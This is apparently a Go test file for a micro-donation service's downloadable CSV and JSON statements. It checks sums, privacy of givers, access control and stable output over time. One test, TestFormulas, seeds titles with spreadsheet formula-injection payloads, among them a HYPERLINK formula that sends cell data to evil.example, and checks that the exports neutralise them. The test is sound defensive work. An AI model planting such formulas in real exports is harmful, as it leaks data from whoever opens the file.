package web

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"mime"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/fedflattr/flattrd/ledger"
)

// table reads a CSV file that was downloaded, by column.
func (b *browser) table(comma rune) (rows []map[string]string) {
	t := b.town.t
	t.Helper()
	r := csv.NewReader(strings.NewReader(b.Body))
	r.Comma = comma
	all, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", b.from, err)
	}
	if !strings.Contains(b.Body, "\r\n") {
		t.Errorf("%s: lines don't end as RFC 4180 says", b.from)
	}
	for _, cells := range all[1:] {
		row := map[string]string{}
		for i, name := range all[0] {
			row[name] = cells[i]
		}
		rows = append(rows, row)
	}
	return rows
}

// micro reads an exact decimal.
func micro(t *testing.T, decimal string) int64 {
	t.Helper()
	whole, fraction, _ := strings.Cut(decimal, ".")
	n, err := strconv.ParseInt(whole+fraction, 10, 64)
	if err != nil || len(fraction) != 6 {
		t.Fatalf("%q is no amount of six digits", decimal)
	}
	return n
}

// file demands a download of that name and kind.
func (b *browser) file(name, media string) *browser {
	b.town.t.Helper()
	disposition, with, err := mime.ParseMediaType(b.Head.Get("Content-Disposition"))
	if b.Code != http.StatusOK || err != nil || disposition != "attachment" || with["filename"] != name {
		b.town.t.Fatalf("%s: %d, %s, want %s: %s", b.from, b.Code, b.Head.Get("Content-Disposition"), name, b.text("main"))
	}
	if kind, _, _ := mime.ParseMediaType(b.Head.Get("Content-Type")); kind != media {
		b.town.t.Errorf("%s is %s", b.from, kind)
	}
	return b
}

// TestGiversFile: the rows of a settled month add up to the budget, in CSV as in JSON, and the page links
// to both.
func TestGiversFile(t *testing.T) {
	t.Parallel()
	s := newScene(t)
	b := s.browser().logIn(s.a, "alice").get("/months/2026-11")
	b.says(".facts", "Budget€2.00", "Given€2.00", "Rolled over€0.00", "none", "Came back later€0.00")
	if rel := b.Doc.Find(".around a[rel=next]").AttrOr("href", ""); rel != "/months/2026-12" {
		t.Errorf("the next month is at %q", rel)
	}
	b.get(b.Doc.Find("a[href$='.csv']").AttrOr("href", "")).file("flattr-given-2026-11-alice.csv", "text/csv")
	var sum int64
	things, amounts := []string{}, []string{}
	for _, row := range b.table(',') {
		sum += micro(t, row["amount"])
		things, amounts = append(things, row["title"]), append(amounts, row["amount"])
		if row["month"] != "2026-11" || row["month_state"] != "settled" || row["currency"] != "EUR" || row["state"] != "accepted" || row["returned"] != "0.000000" {
			t.Errorf("%v", row)
		}
	}
	if d := cmp.Diff([]string{"carols-song-number-0", "carols-song-number-1", "carols-song-number-2", "essay-0", "essay-1", "essay-2", "essay-3"}, things); d != "" {
		t.Error(d)
	}
	slices.Sort(amounts)
	if d := cmp.Diff([]string{"0.285714", "0.285714", "0.285714", "0.285714", "0.285714", "0.285715", "0.285715"}, amounts); d != "" || sum != 2_000_000 {
		t.Errorf("the sum is %d: %s", sum, d)
	}
	b.get("/months/2026-11.json").file("flattr-given-2026-11-alice.json", "application/json")
	var doc struct {
		Member, Budget, Given, RolledOver, Fee, AssetCode string
		AssetScale                                        int
		Flattrs                                           []struct{ Amount, Payee string }
	}
	if err := json.Unmarshal([]byte(b.Body), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Budget != "2000000" || doc.Given != "2000000" || doc.RolledOver != "0" || doc.Fee != "0" || doc.AssetCode != "EUR" ||
		doc.AssetScale != 6 || len(doc.Flattrs) != 7 || doc.Member != s.a.Base+"/users/alice" {
		t.Errorf("%+v", doc)
	}
	b.get("/months/2026-12.csv").file("flattr-given-2026-12-alice.csv", "text/csv")
	for _, row := range b.table(',') {
		if row["amount"] != "" || row["month_state"] != "open" {
			t.Errorf("an amount before the settlement: %v", row)
		}
	}
}

// TestPayeesFiles: the rows add up to what was given, no giver is named, and nobody reads another's.
func TestPayeesFiles(t *testing.T) {
	t.Parallel()
	s := newScene(t)
	b := s.browser().logIn(s.a, "alice").get("/earned")
	b.get(b.Doc.Find("tbody a").AttrOr("href", "")).wants(200, "/earned/2026-11")
	b.says(".facts", "Amount€7.00", "Available€7.00", "none", "Withdrawn within this month€0.00")
	b.says("section[aria-labelledby=things-title]", "a-walk-along-the-river", "Amounts that aren’t told by thing", "€7.00")
	b.get("/earned/2026-11.csv").file("flattr-revenue-2026-11-alice.csv", "text/csv")
	host := "a.localhost:" + s.port
	want := []map[string]string{
		{"month": "2026-11", "instance": host, "kind": "thing", "thing": s.a.Base + "/buttons/" + s.own.ID, "url": s.own.URL,
			"title": "a-walk-along-the-river", "flattrs": "1", "amount": "", "state": "available", "currency": "EUR"},
		{"month": "2026-11", "instance": host, "kind": "rest", "thing": "", "url": "", "title": "", "flattrs": "0", "amount": "7.000000",
			"state": "available", "currency": "EUR"}}
	if d := cmp.Diff(want, b.table(',')); d != "" {
		t.Error(d)
	}
	files := b.Body
	b.get("/earned/2026-11.csv?format=classic").file("flattr-revenue-2026-11-alice-classic.csv", "text/csv")
	if want := "period;id;flattr url;url;title;clicks;revenue;clicks total\r\n" +
		"2026-11;" + s.own.ID + ";" + s.a.Base + "/f/" + s.own.ID + ";" + s.own.URL + ";a-walk-along-the-river;1;;1\r\n" +
		"2026-11;;;;;0;7,00;0\r\n"; b.Body != want {
		t.Errorf("classic:\n%s\nwant\n%s", b.Body, want)
	}
	files += b.get("/earned/2026-11.json").file("flattr-revenue-2026-11-alice.json", "application/json").Body
	files += b.get("/earned.csv").file("flattr-earned-alice.csv", "text/csv").Body
	files += b.get("/earned.json").file("flattr-earned-alice.json", "application/json").Body
	if strings.Contains(files, "carol") {
		t.Error("the givers are named: " + files)
	}
	other := s.browser().logIn(s.a, "carol")
	for _, path := range []string{"/earned/2026-11.csv", "/earned/2026-11.json", "/earned.csv", "/months/2026-11.csv"} {
		if body := other.get(path).Body; other.Code != http.StatusOK || strings.Contains(body, s.own.ID) != (path == "/months/2026-11.csv") || strings.Contains(body, "essay") {
			t.Errorf("carol reads in %s: %s", path, body)
		}
	}
	for _, none := range []string{"/earned/2020-01.csv", "/earned/2020-01", "/earned/2026-11.xml", "/earned/2026-11.csv?format=odd", "/months/2026-11.csv?format=classic",
		"/earned/2026-13.json", "/earned/x", "/months/2026-13.csv"} {
		b.get(none).wants(404, strings.Split(none, "?")[0])
	}
}

// TestPledgedThings: the open month tells clicks, and no amounts.
func TestPledgedThings(t *testing.T) {
	t.Parallel()
	s := newScene(t)
	b := s.browser().logIn(s.b, "bob").get("/earned")
	b.get(b.Doc.Find("a[href='/earned/2026-12']").AttrOr("href", "")).says(".facts", "Pledged3 flattrs", "Amount€0.00")
	b.get("/earned/2026-12.csv")
	for _, row := range b.table(',') {
		if row["state"] != "pledged" || row["amount"] != "" || row["flattrs"] != "1" || row["instance"] != "a.localhost:"+s.port {
			t.Errorf("%v", row)
		}
	}
	if b.get("/earned/2026-11.csv?format=classic"); len(b.table(';')) != 0 {
		t.Error("classic told of pledged flattrs: " + b.Body)
	}
}

// TestOperatorsFiles: the instance's month is its operator's.
func TestOperatorsFiles(t *testing.T) {
	t.Parallel()
	s := newScene(t)
	b := s.browser().logIn(s.a, "rita").get("/admin/months")
	b.get(b.Doc.Find("tbody a[href='/admin/months/2026-11']").AttrOr("href", "")).says(".facts", "€9.00", "of 2 members", "8 flattrs")
	b.get("/admin/months/2026-11.csv").file("flattr-instance-2026-11.csv", "text/csv")
	sums := map[string]int64{}
	for _, row := range b.table(',') {
		sums[row["kind"]] += micro(t, row["amount"])
	}
	if sums["reserved"] != 9_000_000 || sums["reserved"] != sums["shared"]+sums["rolled-over"] || sums["shared"] != sums["earned"]+sums["claimed"] ||
		sums["claimed"] != sums["claim-out"] || sums["claimed"] == 0 {
		t.Errorf("%v", sums)
	}
	b.get("/admin/months/2026-11.json").file("flattr-instance-2026-11.json", "application/json")
	s.moneyMoves()
	all, err := s.a.Payments(t.Context())
	for _, y := range all {
		if err == nil && y.State == "ordered" {
			err = s.a.PaymentSent(t.Context(), s.a.Op.ID, y.ID)
		}
	}
	if err != nil {
		t.Fatal(err)
	}
	for _, method := range []string{"netting", "bank"} { // in the end as it was
		if _, err := s.a.Pool.Exec(t.Context(), `update payment set method = $1 where direction = 'out'`, method); err != nil {
			t.Fatal(err)
		}
		if tagged := strings.Contains(b.get("/admin/months/2026-11").Body, `<span class="tag">netting</span>`); tagged != (method == "netting") {
			t.Errorf("a payment by %s is tagged as netting: %v", method, tagged)
		}
	}
	for _, none := range []string{"/admin/months/2020-01", "/admin/months/2020-01.csv", "/admin/months/2026-11.csv?format=classic"} {
		b.get(none).wants(404, strings.Split(none, "?")[0])
	}
	member := s.browser().logIn(s.a, "alice")
	for _, path := range []string{"/admin/months/2026-11", "/admin/months/2026-11.csv", "/admin/months/2026-11.json"} {
		member.get(path).wants(404, path)
		s.browser().get(s.a.Base+path).wants(200, "/login")
	}
}

// TestFormulas: no title is one that a spreadsheet computes (P4).
func TestFormulas(t *testing.T) {
	t.Parallel()
	w, a := single(t)
	alice, bob := a.join("alice"), a.join("bob")
	ctx := context.Background()
	a.Fund(alice, 1_000_000)
	titles := []string{`=HYPERLINK("https://evil.example?"&A1,"x")`, "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1", "\u200b=1",
		`a "quoted", title; with = inside`, "two\nlines", "plain"}
	for i, title := range titles {
		b := a.button(bob, "page-"+strconv.Itoa(i))
		if _, err := a.Pool.Exec(ctx, `update thing set title = $2, payee_name = $2 where button = $1`, b.ID, title); err != nil {
			t.Fatal(err)
		}
		thing, err := a.ThingByIRI(ctx, a.Instance.Instance().ButtonIRI(b.ID))
		if err == nil {
			_, _, err = a.Flattr(ctx, alice.ID, thing.ID)
		}
		if err != nil {
			t.Fatal(err)
		}
		w.clock.Set(w.clock.Now().Add(time.Minute))
	}
	want := []string{`'=HYPERLINK("https://evil.example?"&A1,"x")`, "'+1", "'-1+1", "'@SUM(A1)", "'=1", "'=1", "'\uff1d1", "'=1",
		`a "quoted", title; with = inside`, "twolines", "plain"}
	b := w.browser().logIn(a, "alice").get("/months/2026-11.csv")
	got, names := []string{}, []string{}
	for _, row := range b.table(',') {
		got, names = append(got, row["title"]), append(names, row["payee_name"])
	}
	if d := cmp.Diff(want, got); d != "" || !slices.Equal(got, names) {
		t.Errorf("%v %s", names, d)
	}
	b = w.browser().logIn(a, "bob")
	for path, comma := range map[string]rune{"/earned/2026-11.csv": ',', "/earned/2026-11.csv?format=classic": ';'} {
		for _, row := range b.get(path).table(comma) {
			if title := row["title"]; strings.ContainsAny(title[:min(1, len(title))], "=+-@\t\r") {
				t.Errorf("%s: %q", path, title)
			}
		}
	}
}

// TestStatementsYearsLater: a month's files are the same bytes two years and many partitions later.
func TestStatementsYearsLater(t *testing.T) {
	t.Parallel()
	s := newScene(t)
	roles := map[string]*browser{"alice": s.browser().logIn(s.a, "alice"), "rita": s.browser().logIn(s.a, "rita")}
	paths := map[string]string{"/months/2026-11.csv": "alice", "/months/2026-11.json": "alice", "/earned/2026-11.csv": "alice",
		"/earned/2026-11.json": "alice", "/admin/months/2026-11.csv": "rita", "/admin/months/2026-11.json": "rita"}
	before := map[string]string{}
	for path, role := range paths {
		before[path] = roles[role].get(s.a.Base + path).Body
	}
	s.clock.Set(time.Date(2028, 12, 2, 12, 0, 0, 0, time.UTC))
	if err := s.a.Tick(context.Background()); err != nil {
		t.Fatal(err)
	}
	if err := s.a.SetBudget(context.Background(), s.alice.ID, 0); err != nil {
		t.Fatal(err)
	}
	for path, role := range paths {
		b := s.browser().logIn(s.a, role).get(path)
		if d := cmp.Diff(before[path], b.Body); d != "" || len(b.Body) < 100 {
			t.Errorf("%s: %s", path, d)
		}
	}
	s.browser().logIn(s.a, "alice").get("/months/2026-11").says(".total", "€2.00")
}

// TestTotalsPage: anybody reads the sums, and none that is over too few.
func TestTotalsPage(t *testing.T) {
	t.Parallel()
	s := newScene(t)
	b := s.browser().get(s.a.Base+"/totals").says("tbody", "November 2026", "not told")
	if strings.Contains(b.text("tbody"), "€") || strings.Contains(b.text("tbody"), "December") {
		t.Error("two givers' budgets are told: " + b.text("tbody"))
	}
	b.get("/totals/2026-11").says(".facts", "Givers2", "not told").says("main", "over fewer than three members")
	if href := b.Doc.Find("a[href$='.json']").AttrOr("href", ""); href != "/totals/2026-11.json" {
		t.Errorf("signed at %q", href)
	}
	if b.Doc.Find(".around").Length() != 0 {
		t.Error("a month that isn't settled has totals")
	}
	for _, none := range []string{"/totals/2026-12", "/totals/2020-01", "/totals/x", "/totals?before=x"} {
		b.get(none).wants(404, strings.Split(none, "?")[0])
	}
	if !(totalPage{PublicTotals: ledger.PublicTotals{}}).Hidden() {
		t.Error("nothing is told, and nothing said of it")
	}
}
